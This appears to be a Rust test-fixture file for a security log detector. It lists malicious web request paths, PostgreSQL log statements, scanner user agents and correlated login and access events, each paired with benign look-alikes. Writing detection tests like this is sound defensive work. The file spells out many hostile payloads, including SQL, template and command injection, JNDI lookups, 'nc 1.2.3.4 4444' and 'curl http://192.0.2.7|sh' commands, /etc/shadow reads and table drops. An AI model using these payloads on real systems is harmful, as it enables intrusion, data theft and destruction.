            "/x?h=%60id%60",
            "/x?h=$(id)",
            "/x?h=1%253Bid",
            "/x?h=1;%20/usr/bin/env",
            "/x?t=${7*7}",
            "/x?t=%23%7B7*7%7D",
            "/x?c=system(%27id%27)",
            "/x?c=%27;system(%22ls%22)",
            "/x?class.module.classLoader.resources.context=a",
            "/x?h=1|curl%20192.0.2.7/x",
            "/cgi-bin/luci/;stok=/locale",
        ],
        &[
            "/x;id=5?a=1",
            "/r?next=%2Fx%3Fa%3D1%26id%3D5",
            "/docs/system(overview)",
            "/search?q=cats+and+dogs",
            "/x?a=1;b=2",
            "/search?q=ping%20pong",
            "/x?q=a%7Cb",
            "/blog/perl-or-python",
            "/x?filter=a%3Bb%3Btype%3D1",
        ],
    ),
    (
        "cross-site-scripting-probe",
        &["/x?q=%3Cmarquee%20onstart%3Dx%3E", "/x?q=%3Csvg/onbegin=x", "/x?q=%22%20onclick=x"],
        &["/api/alerts/alert(1)", "/docs/prompt(ing)", "/api/javascript:void(0)", "/blog/onload=whatever"],
    ),
    (
        "sql-injection-probe",
        &["/x?id=1'", "/x?a=b&id=7');", "/x?id=1+and+1%3Dcast%28current_database%28%29+as+int%29"],
        &["/x?size=5'6", "/docs/5'", "/search?q=don't", "/docs/current_database"],
    ),
    (
        "web-enumeration",
        &["/graphql?query={__schema{types{name}}}", "/graphql?query=query%20IntrospectionQuery%20%7Bx%7D"],
        &["/graphql?query={trades{id}}", "/docs/schema"],
    ),
    (
        "object-injection-probe",
        &["/x?password%5B%24gt%5D=", "/x?a[$gte]=&b=1"],
        &["/x?price[$gt]=5", "/x?price%5B%24gt%5D=0"],
    ),
    (
        "sql-injection-probe",
        &["/x?id=1-sleep(5)", "/x?id=benchmark(500000,md5(1))", "/x?id=sleep%2815%29"],
        &["/search?q=sleep+(5+tips)", "/search?q=benchmark(s)+2026", "/sleep(ing)-bags"],
    ),
    (
        "webshell",
        &["/uploads/2026/a.php", "/avatars/x.jsp", "/alfa.php"],
        &["/uploads/photo.jpg", "/upload.php", "/uploads/phone.phpx.pdf"],
    ),
    (
        "lookup-injection-probe",
        &["/x?a=%2524%257B%2524%257Benv%253AX%253A-j%257Dndi", "/x?a=${date:x}"],
        &["/x?a=%24%7Bname%7D"],
    ),
    (
        "code-injection-probe",
        &[
            "/x?h=a%3Benv",
            "/x?h=a;sleep%205;",
            "/x?h=a%0Aid%0A",
            "/x?h=a|ls%20-la%20/",
            "/x?h=a;busybox+wget+http://192.0.2.7/b",
        ],
        &[
            "/notes?text=it%27s%205%3B%20cat%20is%20asleep",
            "/notes?text=R%26D%20%7C%20cat%20food",
            "/notes?text=a%3B%20sleep%20well",
        ],
    ),
    (
        "sql-injection-probe",
        &[
            "/x?id=1;UPDATE%20users%20SET%20role=1",
            "/x?id=1;COPY%20t%20FROM%20PROGRAM%20%27id%27",
            "/x?id=1%3Bdelete%20from%20t",
        ],
        &["/search?q=a%3B%20drop%20in%3B%20update%20later"],
    ),
    (
        "header-injection-probe",
        &[
            "/x?q=a%0d%0aSet-Cookie:%20a=b",
            "/x?q=a%0D%0ASet%2DCookie%3A+a",
            "/x?q=%E5%98%8A%E5%98%8DLocation:x",
            "/x?q=%0d%0a%0d%0a%3Cscript%3E",
            "/x HTTP/1.1\\x0D\\x0ATransfer-Encoding: chunked",
        ],
        &["/mail?body=Hello%0D%0A%0D%0AI%20write", "/x?text=a%0D%0Ab", "/x?text=set-cookie:%20a"],
    ),
    (
        "open-redirect-probe",
        &[
            "/login?next=//evil.example/",
            "/login?redirect_to=%2F%2Fevil.example",
            "/login?url=/%5Cevil.example",
            "/login?return_to=https:evil.example",
        ],
        &[
            "/login?next=/account",
            "/login?next=%2Faccount%2Fa",
            "/login?next=https://app.example/a",
            "/x?expr=//node[1]",
        ],
    ),
    (
        "remote-file-probe",
        &[
            "/index.php?page=http://198.51.100.2/shell.txt?",
            "/index.php?lang=https%3A%2F%2Fevil%2Eexample%2Fc99%2Etxt",
            "/x?file=ftp://198.51.100.2/r.php",
        ],
        &[
            "/x?page=https://app.example/account",
            "/img?url=https://cdn.example/a.txt",
            "/view?file=https://cdn.example/a.pdf",
        ],
    ),
    (
        "object-injection-probe",
        &[
            "/x?__proto__[admin]=1",
            "/x?constructor[prototype][a]=1",
            "/u?name=*)(uid=*))(|(uid=*",
            "/u?name=%2A%29%28uid%3D%2A",
            "/u?name=admin)(%26)",
            "/x?q=%27%3Breturn%20true%3Bvar%20a",
            "/x?user[$ne]=1",
            "/x?user%5B%24regex%5D=.*",
            "/x?f=%7B%22%24gt%22%3A%22%22%7D",
        ],
        &["/x?price[$gt]=5", "/x?f=%7B%22gt%22%3A5%7D", "/docs/prototype", "/x?q=(a)(b)", "/x?e=2*(3)"],
    ),
    ("request-encoded-twice", &["/x?f=a%00b"], &["/x?f=a%20000b"]),
    (
        "sql-injection-probe",
        &[
            "/item?id=1%27",
            "/item?id=1%22%27&x=2",
            "/item?id=-1%20OR%202%2B2-3-1%3D0%2B0%2B0%2B1",
            "/login?user=admin%27%2D%2D%20",
            "/item?id=1/*%2150000UNION*//*%2150000SELECT*/1%2C2",
            "/item?id=1+and+exists(table_name+from+information_schema.tables)",
            "/item?id=1;exec+master..xp_cmdshell+%27id%27",
            "/item?id=1;waitfor%20delay%20%270:0:5%27",
        ],
        &[
            "/search?q=information_schema%20explained",
            "/search?q=xp_cmdshell+history",
            "/search?q=waitfor+delay+meaning",
            "/issues/?jql=text%20~%20%27login%27%20AND%20created%20%3E%3D%20-7d%20OR%20priority%20=%201",
            "/u?name=O%27Brien",
            "/search?q=rock+%27n%27+roll",
            "/s?height=5'11",
        ],
    ),
    (
        "code-injection-probe",
        &[
            "/x?q=%40%287%2A7%29",
            "/x?q=require%28%27child%5Fprocess%27%29",
            "/x?q=<!DOCTYPE+a+[<!ENTITY+b",
            "/?XDEBUG_SESSION_START=phpstorm",
        ],
        &["/calc?e=7*7", "/x?q=doctype"],
    ),
    (
        "path-traversal-probe",
        &["/x?p=..%3B%2F..%3B%2Fmanager", "/g/r/-/blob/../../../etc/passwd"],
        &["/x?p=a..%3B", "/g/r/-/blob/main/.env.example", "/wiki/Etc/passwd"],
    ),
    (
        "sensitive-file-probe",
        &["/wallet.dat", "/prisma/schema.prisma"],
        &["/group/repo/-/blob/main/.gitignore", "/group/repo/-/raw/main/docker-compose.yml"],
    ),
    ("webshell", &["/upload/1.php;.jpg"], &["/upload/1.jpg"]),
    (
        "sql-injection-probe",
        &[
            "/x?id=3%20OR%20%27a%27%3D%27a%27",
            "/x?id=3+or+'a'='a'",
            "/x?id=7%27%3Bshutdown--",
            "/x?id=7%27%3Bdrop%2F%2A%2A%2Fdatabase%2F%2A%2A%2Fshop--",
            "/x?id=1%20%7C%7C%20dbms%5Fpipe%2Ereceive%5Fmessage%28%28%27a%27%29%2C10%29",
        ],
        &["/search?q=cats+or+'dogs'", "/search?q=a;shutdowns"],
    ),
    (
        "code-injection-probe",
        &[
            "/x?q=%7B%7B7*'7'%7D%7D",
            "/x?q=%24%7B%7B%3C%25%5B%25",
            "/x?q=%7B%7B_self.env.display%7D%7D",
            "/x?q=%3C%3F%3D%60%24_GET%5B0%5D%60%3F%3E",
            "/x?q=a%3B%20rm%20-rf%20/tmp/x",
            "/x?q=%26%20dir%20c%3A%5C",
        ],
        &["/search?q=rm+-rf+meaning", "/search?q=a%3Cb", "/x?q={{name}}"],
    ),
    (
        "object-injection-probe",
        &["/x?a[constructor][prototype][x]=1", "/x?u[$nin][]=a", "/x?u=admin*)((|userPassword=*)"],
        &["/x?a[b][c]=1"],
    ),
    (
        "open-redirect-probe",
        &["/login?next=/%09/evil.example", "/login?next=%5C/%5C/evil.example"],
        &["/login?next=/a%09b"],
    ),
    ("lookup-injection-probe", &["/x?a=${j${::-n}di:ldap://x/a}"], &["/x?a=${name}"]),
    (
        "internal-address-asked-for",
        &["/x?url=http%3A%2F%2F0%2F", "/x?url=http://0:80/"],
        &["/x?url=http://0815.example/"],
    ),
];

/// Rules on PostgreSQL's log: the file's name, messages that it must find, and some that it must not.
pub const STATEMENTS: &[(&str, &[&str], &[&str])] = &[
    (
        "database-persistence",
        &[
            "duration: 12.345 ms  execute S_1: CREATE ROLE evil LOGIN",
            "statement: /* app */ CREATE ROLE evil LOGIN",
            "statement: begin; create role evil login; commit",
            "statement: create role evil\n\tlogin",
            "statement: GRANT pg_read_all_data TO evil",
            "AUDIT: SESSION,2,1,DDL,CREATE FUNCTION,FUNCTION,public.f,\"CREATE FUNCTION f() RETURNS void\",<none>",
            "AUDIT: SESSION,3,1,DDL,CREATE EVENT,,,\"create event trigger e on ddl_command_end execute function x()\",<none>",
            "statement: ALTER USER app WITH NOINHERIT SUPERUSER",
            "statement: ALTER USER app PASSWORD 'x'",
            "statement: CREATE TRIGGER t AFTER INSERT ON withdrawals FOR EACH ROW EXECUTE FUNCTION redirect()",
            "statement: CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ begin end $$",
            "statement: create procedure p() language plpython3u as $$ import os $$",
            "statement: GRANT postgres TO app",
            "statement: grant trader to eve with admin option",
            "statement: GRANT\n\tALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO evil",
            "statement: GRANT INSERT, UPDATE ON ledger TO public",
            "statement: GRANT EXECUTE ON FUNCTION pg_read_file(text) TO app",
        ],
        &[
            "statement: SELECT * FROM roles WHERE name = 'x; create role y'",
            "statement: INSERT INTO notes(body) VALUES ('grant all')",
            "execute <unnamed>: INSERT INTO audit(event) VALUES ('user created')",
            "statement: CREATE TABLE granted (id int)",
            "statement: CREATE EXTENSION IF NOT EXISTS \"uuid-ossp\"",
            "AUDIT: SESSION,3,1,READ,SELECT,TABLE,public.roles,select 1,<none>",
            "statement: CREATE FUNCTION f() RETURNS trigger AS $$ begin return new; end $$ LANGUAGE plpgsql",
            "statement: CREATE TRIGGER s BEFORE UPDATE ON orders FOR EACH ROW EXECUTE FUNCTION set_updated_at()",
            "statement: CREATE ROLE readonly NOLOGIN",
            "statement: ALTER ROLE app SET statement_timeout = '5s'",
            "statement: GRANT SELECT ON trades TO reporting",
            "statement: GRANT USAGE ON SCHEMA public TO PUBLIC",
            "statement: GRANT readonly TO reporting",
            "statement: GRANT EXECUTE ON FUNCTION fee(text) TO app",
            "statement: GRANT EXECUTE ON function pg_catalog.pg_ls_dir(text, boolean, boolean) TO \"streaming_replica\"",
            "AUDIT: SESSION,6,1,ROLE,GRANT,,,\"GRANT CONNECT ON DATABASE shop TO reporting\",<not logged>",
        ],
    ),
    (
        "database-program-run",
        &[
            "statement: copy (select '') to program 'nc 1.2.3.4 4444'",
            "statement: COPY t FROM '/etc/passwd'",
            "statement: COPY (SELECT * FROM users) TO '/tmp/out.csv'",
            "statement: select pg_read_binary_file ('/etc/shadow')",
            "execute <unnamed>: select lo_import('/etc/passwd')",
            "statement: SELECT 'it''s'; COPY t(v) FROM PROGRAM 'id'",
            "statement: SELECT 1 AS \"it's\"; COPY t FROM PROGRAM 'id'",
            "statement: SET standard_conforming_strings = off; SELECT 'it\\'s'; COPY t FROM PROGRAM 'id'",
            "statement: COPY/**/t/* ' */FROM/**/PROGRAM/**/'id'",
            "statement: DO $$ BEGIN EXECUTE 'C' || 'OPY t FROM PROGRAM ''id'''; END $$",
            "statement: SELECT cron.schedule('x', '* * * * *', $$COPY t FROM PROGRAM 'id'$$)",
            "statement: LOAD '/tmp/x.so'",
            "statement: CREATE FOREIGN TABLE t (l text) SERVER f OPTIONS (filename '/etc/passwd')",
            "Anweisung: COPY t FROM PROGRAM 'id'",
        ],
        &[
            "statement: INSERT INTO posts (body) VALUES ('how they use COPY x FROM PROGRAM to run commands')",
            "statement: SELECT * FROM posts WHERE body LIKE '%pg_read_file(%'",
            "statement: SELECT count(*) FROM pg_ls_waldir()",
            "statement: COPY trades FROM STDIN",
            "statement: GRANT EXECUTE ON FUNCTION pg_ls_dir(text) TO app",
            "statement: REVOKE EXECUTE ON FUNCTION pg_read_file(text) FROM app",
            "statement: COPY public.trades (id, v) TO stdout",
            "execute <unnamed>/C_3: SELECT * FROM programs",
        ],
    ),
    (
        "database-log-changed",
        &[
            "statement: SELECT set_config('log_statement', 'none', false)",
            "statement: SET log_statement TO 'none'",
            "AUDIT: SESSION,1,1,MISC,SET,,,\"SET log_statement TO 'none'\",<none>",
            "statement: ALTER SYSTEM RESET log_statement",
            "statement: ALTER SYSTEM SET logging_collector = off",
            "instruction : SET pgaudit.log TO 'none'",
        ],
        &[
            "statement: ALTER SYSTEM SET log_min_duration_statement = 500",
            "statement: SET log_min_duration_statement = 0",
            "statement: SHOW log_statement",
            "statement: SELECT set_config('app.user', '5', true)",
        ],
    ),
    (
        "database-data-destroyed",
        &[
            "statement: DO $$ BEGIN EXECUTE 'drop table trades'; END $$",
            "statement: DO $$ BEGIN EXECUTE format('truncate %I', 'trades'); END $$",
            "statement: DROP TABLE IF EXISTS public.trades CASCADE",
            "execute <unnamed>: truncate\n\ttable only public.\"audit_log\"",
            "duration: 1.2 ms  statement: DELETE FROM orders",
            "statement: delete from \"Trade\" where 1=1",
            "statement: DROP SCHEMA public CASCADE",
            "AUDIT: SESSION,3,1,WRITE,TRUNCATE TABLE,,,\"TRUNCATE users\",<not logged>",
            "AUDIT: SESSION,3,1,WRITE,DELETE,,,\"delete from audit_log\",<not logged>",
            "statement: UPDATE trades SET price = 0",
            "statement: DELETE FROM trades WHERE created_at > '2026-01-01'",
            "statement: DELETE FROM \"AuditLog\" WHERE \"userId\" = 5",
            "statement: MERGE INTO \"Trade\" t USING (SELECT 1) x ON true WHEN MATCHED THEN DELETE",
            "statement: UPDATE trades SET user_id = 5 WHERE 1=1",
            "statement: DELETE FROM trades WHERE id = 1 OR true",
            "statement: DELETE FROM \"public\".\"Trade\" WHERE (1=1)",
        ],
        &[
            "statement: DELETE FROM trades WHERE id = 5",
            "statement: DROP TABLE IF EXISTS tmp_import_2026",
            "statement: DELETE FROM sessions WHERE expires_at < now()",
            "statement: COMMENT ON TABLE trades IS 'do not truncate'",
            "statement: DELETE FROM \"public\".\"Order\" WHERE (\"public\".\"Order\".\"id\" = $1 AND 1=1)",
            "statement: DELETE FROM audit_log WHERE created_at < now() - interval '400 days'",
            "statement: DELETE FROM job_locks",
            "statement: UPDATE trades SET price = $1 WHERE id = $2",
            "statement: UPDATE orders SET status = 'new'",
            "statement: MERGE INTO positions p USING f ON p.id = f.id WHEN MATCHED THEN UPDATE SET qty = 1",
            "statement: MERGE INTO staging s USING x ON s.id = x.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
            "statement: DELETE FROM trades WHERE id = 1 AND closed OR id = 2",
            "statement: UPDATE trades SET user_id = 5 WHERE id = 7 AND 1=1",
            "statement: DROP DATABASE IF EXISTS \"prisma_migrate_shadow_db_1\"",
        ],
    ),
    (
        "database-secrets-read",
        &[
            "statement: SELECT rolname, rolpassword FROM pg_authid",
            "statement: COPY public.api_keys TO stdout",
            "statement: copy (select * from users) to stdout with csv",
            "statement: select subconninfo from pg_subscription",
        ],
        &[
            "execute <unnamed>: SELECT usename, passwd FROM pg_shadow WHERE usename=$1",
            "statement: INSERT INTO notes VALUES ('what pg_shadow is')",
            "statement: COPY trades_import FROM STDIN",
            "statement: SELECT count(*) FROM pg_stat_activity",
        ],
    ),
    (
        "database-ransom",
        &[
            "statement: INSERT INTO warning VALUES ('Send 0.05 BTC to this address to recover your database')",
            "statement: create database read_me_to_recover",
            "statement: CREATE TABLE \"README\" (note text)",
            "statement: CREATE TABLE please_read_me_xmg (a text)",
            "statement: ALTER DATABASE shop RENAME TO shop_encrypted_pay_btc",
        ],
        &["statement: INSERT INTO orders (pair, note) VALUES ('BTC-EUR', 'your order')"],
    ),
    (
        "database-injection",
        &[
            "statement: SELECT * FROM p WHERE id = 1;SELECT PG_SLEEP(5)--",
            "statement: SELECT * FROM users WHERE name = '' OR '1'='1' -- ' AND password = ''",
            "execute <unnamed>: SELECT * FROM p WHERE id = 1 AND 5=CAST((CHR(113)||CHR(106)) AS NUMERIC)",
            "unterminated quoted string at or near \"' ORDER BY 1\"",
            "statement: SELECT * FROM p WHERE id = 1 AND 1=CAST((SELECT version()) AS int)",
        ],
        &[
            "statement: SELECT pg_sleep(0.1)",
            "statement: SELECT * FROM p WHERE name = 'a' OR name = 'b' ORDER BY 1",
            "statement: SELECT * FROM generate_series(1, 1000000)",
            "statement: INSERT INTO t (v) VALUES (CAST($1::text AS int))",
            "statement: SELECT id FROM t WHERE n = CAST((SELECT max(n) FROM u) AS text)",
        ],
    ),
    (
        "database-defences-off",
        &[
            "statement: ALTER TABLE trades DISABLE TRIGGER ALL",
            "statement: set session_replication_role = replica",
            "statement: create rule r as on insert to users do also insert into s values (new.*)",
            "statement: CREATE SUBSCRIPTION s CONNECTION 'host=192.0.2.7' PUBLICATION p",
            "statement: ALTER SYSTEM SET archive_command = 'curl http://192.0.2.7|sh'",
            "statement: CREATE EXTENSION IF NOT EXISTS dblink",
            "statement: CREATE USER MAPPING FOR app SERVER other OPTIONS (user 'x')",
            "AUDIT: SESSION,9,1,DDL,CREATE EXTENSION,,,\"CREATE EXTENSION plpython3u\",<not logged>",
            "statement: create function x() returns void as $$ $$ language plperlu",
        ],
        &[
            "statement: create extension if not exists pg_trgm",
            "statement: CREATE FUNCTION f() RETURNS trigger AS $$ begin return new; end $$ LANGUAGE plpgsql",
            "statement: ALTER ROLE app SET statement_timeout = '5s'",
        ],
    ),
    (
        "database-injection-error",
        &[
            "UNION types integer and text cannot be matched",
            "ORDER BY position 10 is not in select list at character 8",
            "syntax error at or near \"UNION\" at character 32",
            "syntax error at or near \"WAITFOR\" at character 32",
            "function sleep(integer) does not exist at character 51",
            "function extractvalue(integer, text) does not exist at character 51",
            "column \"xp_cmdshell\" does not exist at character 9",
            "invalid input syntax for type bigint: \"1 OR 1=1\"",
            "invalid input syntax for type integer: \"qvqPostgreSQL 16.4 on x86_64\"",
            "statement: SELECT * FROM u WHERE m='' UNION SELECT table_name,null FROM information_schema.tables--'",
            "statement: SELECT * FROM p WHERE id=1 AND 1/(SELECT CASE WHEN (1=1) THEN 0 ELSE 1 END)=1",
            "statement: SELECT n FROM p WHERE id=1 AND (SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))>0",
        ],
        &[
            "invalid input syntax for type uuid: \"undefined\"",
            "invalid input syntax for type integer: \"NaN\"",
            "syntax error at or near \"where\" at character 32",
            "function nwo() does not exist at character 8",
            "statement: SELECT a FROM t UNION ALL SELECT table_name FROM information_schema.tables",
            "statement: INSERT INTO t VALUES ('1 and sleep(5)')",
            "statement: SELECT CASE WHEN a = 1 THEN 2 END FROM t",
        ],
    ),
    (
        "database-tampering",
        &[
            "statement: SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()",
            "statement: ALTER DATABASE shop CONNECTION LIMIT 0",
            "statement: UPDATE pg_database SET datallowconn = false WHERE datname='shop'",
            "statement: DROP POLICY tenant_isolation ON api_keys",
            "statement: DROP EXTENSION pgaudit",
            "duration: 0.212 ms  statement: alter table users no force row level security",
            "statement: CREATE PUBLICATION allt FOR ALL TABLES",
            "statement: IMPORT FOREIGN SCHEMA public FROM SERVER ex INTO public",
            "execute <unnamed>: SELECT pg_create_logical_replication_slot('s','test_decoding')",
            "statement: SELECT pg_file_write('/tmp/a','x',false)",
            "statement: SELECT loid, encode(data,'hex') FROM pg_largeobject",
            "statement: UPDATE users SET password_hash = 'x'",
            "statement: ALTER ROLE app VALID UNTIL 'infinity'",
            "statement: ALTER ROLE app NOLOGIN",
            "statement: DROP ROLE app",
            "parameter \"archive_command\" changed to \"/bin/true\"",
            "parameter \"log_connections\" changed to \"off\"",
            "statement: ALTER SYSTEM SET archive_mode = off",
            "statement: UPDATE \"User\" SET role = 'ADMIN' WHERE id = 7",
            "statement: update users set name = 'x', is_admin = true where id = 7",
            "statement: DROP FUNCTION audit_trade() CASCADE",
        ],
        &[
            "statement: SELECT pg_terminate_backend(4711)",
            "statement: SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = 'shop_test'",
            "statement: SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE state = 'idle in transaction'",
            "statement: DROP POLICY IF EXISTS tenant_isolation ON api_keys",
            "statement: CREATE PUBLICATION p FOR TABLE orders",
            "statement: SELECT oid, lomowner FROM pg_largeobject_metadata",
            "statement: UPDATE users SET password_hash = $1 WHERE id = $2",
            "statement: INSERT INTO notes VALUES ('drop role app')",
            "parameter \"log_statement\" changed to \"ddl\"",
            "parameter \"work_mem\" changed to \"64MB\"",
            "statement: ALTER SYSTEM SET archive_mode = on",
            "statement: UPDATE users SET role = $1 WHERE id = $2",
            "statement: UPDATE users SET role = 'viewer' WHERE id = 7",
            "statement: DROP FUNCTION set_updated_at() CASCADE",
        ],
    ),
    (
        "database-keys-read",
        &[
            "statement: SELECT id, secret FROM api_keys LIMIT 100000;",
            "statement: SELECT string_agg(secret_key, ',') FROM api_keys",
            "execute s1: SELECT email, password_hash FROM users",
            "statement: SELECT array_to_json(array_agg(u)) FROM users u",
            "duration: 12.5 ms  statement: SELECT database_to_xml(true,true,'')",
        ],
        &[
            "execute <unnamed>: SELECT secret_hash FROM api_keys WHERE key_id = $1",
            "statement: SELECT secret FROM api_keys LIMIT 1",
            "statement: SELECT email FROM users",
            "statement: SELECT array_agg(id) FROM orders",
            "statement: INSERT INTO notes VALUES ('select * from api_keys')",
        ],
    ),
];

/// User agents of tools that look for weaknesses, and others.
pub const AGENTS: (&[&str], &[&str]) = (
    &[
        "ffuf/2.1.0",
        "Fuzz Faster U Fool v2.1.0-dev",
        "Wfuzz/3.1.0",
        "ZAP/2.14.0",
        "Mozilla/5.0 (Hydra)",
        "dirsearch",
        "Hello, World",
        "xray/1.9",
        "skipfish/2.10b",
        "Mozlila/5.0",
        "libredtail-http",
    ],
    &["Mozilla/5.0 (Hydrate; Zapier)", "Hydrawise/2.0", "curl/8.5.0", "kube-probe/1.29", "Googlebot/2.1"],
);

/// One event of a correlation, `second` seconds after one o'clock.
fn at(second: u32, rest: &str) -> String {
    format!("{{\"time\":\"2026-11-24T01:{:02}:{:02}Z\",{rest}}}\n", second / 60, second % 60)
}

fn sshd(second: u32, message: &str) -> String {
    format!("Nov 24 01:{:02}:{:02} web sshd[77]: {message} port 5 ssh2\n", second / 60, second % 60)
}

/// What the console says of log-ins, one a second.
fn console(count: u32, said: &str) -> String {
    let one = |n: u32| {
        at(
            n,
            &format!(
                "\"eventName\":\"ConsoleLogin\",\"eventSource\":\"signin.amazonaws.com\",\"sourceIPAddress\":\"1.2.3.4\",\
                 \"responseElements\":{{\"ConsoleLogin\":\"{said}\"}}"
            ),
        )
    };
    (0..count).map(one).collect()
}

/// A call of AWS by a program.
fn called_by(agent: &str) -> String {
    let call =
        "\"eventName\":\"ListUsers\",\"eventSource\":\"iam.amazonaws.com\",\"userIdentity\":{\"accessKeyId\":\"A\"}";
    at(0, &format!("{call},\"userAgent\":\"{agent}\""))
}

/// Correlations: a file, events that it must find, events that it must not.
pub fn correlated() -> Vec<(&'static str, String, String)> {
    let login = |n: u32, user: &str, ip: &str, event: &str| {
        at(n, &format!("\"event\":\"{event}\",\"user\":\"{user}\",\"ip\":\"{ip}\""))
    };
    let refused = |n: u32| login(n, "eve", "1.2.3.4", "login.failed");
    let many = |count: u32, one: &dyn Fn(u32) -> String| (0..count).map(one).collect::<String>();
    let let_in = login(90, "eve", "1.2.3.4", "login.succeeded");
    let addresses = |count: u32| many(count, &|n| login(n, "eve", &format!("1.2.3.{n}"), "login.succeeded"));
    let sprayed = |count: u32| many(count, &|n| login(n, &format!("user{n}"), "1.2.3.4", "login.failed"));
    let knocked = |from: &str| many(25, &|n| sshd(n, &format!("Failed password for root from {from}")));
    let foreign =
        |count: u32| many(count, &|n| sshd(n, "Bad protocol version identification 'GET / HTTP/1.1' from 1.2.3.4"));
    let secret = |count: u32| {
        let one = |n: u32| {
            format!(
                "{{\"eventTime\":\"2026-11-24T01:00:{n:02}Z\",\"eventSource\":\"secretsmanager.amazonaws.com\",\
                 \"eventName\":\"GetSecretValue\",\"userIdentity\":{{\"accessKeyId\":\"AKIAX\"}},\
                 \"requestParameters\":{{\"secretId\":\"s{n}\"}}}}\n"
            )
        };
        many(count, &one)
    };
    let export = |count: u32| {
        let line = |n: u32| {
            format!(
                "1.2.3.4 - - [24/Nov/2026:01:02:{n:02} +0000] \"GET /api/export?page={n} HTTP/1.1\" 200 5 \"-\" \"x\"\n"
            )
        };
        many(count, &line)
    };
    let web = |n: u32, request: &str, status: u16| {
        format!("1.2.3.4 - - [24/Nov/2026:01:02:{n:02} +0000] \"{request} HTTP/1.1\" {status} 5 \"-\" \"x\"\n")
    };
    let web_refused = |count: u32| many(count, &|n| web(n, "POST /api/login", 401));
    let web_keys = |count: u32| many(count, &|n| web(n, &format!("GET /api/keys/{n}"), 200));
    let guessed = |count: u32| {
        let line = |n: u32| {
            format!("2026-11-24 01:02:{n:02} UTC [5] FATAL:  password authentication failed for user \"app\"\n")
        };
        many(count, &line)
    };
    vec![
        ("user-from-many-addresses", addresses(3), addresses(2)),
        ("brute-force-then-login", many(10, &refused) + &let_in, many(9, &refused) + &let_in),
        ("password-spraying", sprayed(10), sprayed(9)),
        (
            "ssh-brute-force",
            knocked("1.2.3.4") + &sshd(50, "Accepted password for root from 1.2.3.4"),
            sshd(0, "Failed password for root from 1.2.3.5") + &sshd(50, "Accepted password for root from 1.2.3.5"),
        ),
        ("ssh-scan", foreign(3), foreign(2)),
        ("web-login-guessing", web_refused(10), web_refused(9)),
        ("web-enumeration", web_keys(15), web_keys(14)),
        ("secrets-swept", secret(10), secret(9)),
        ("console-login-guessing", console(10, "Failure"), console(10, "Success")),
        ("aws-attack-tool", called_by("stratus-red-team_1"), called_by("aws-cli/2")),
        ("mass-export", export(20), export(19)),
        ("database-password-guessing", guessed(10), guessed(9)),
    ]
}
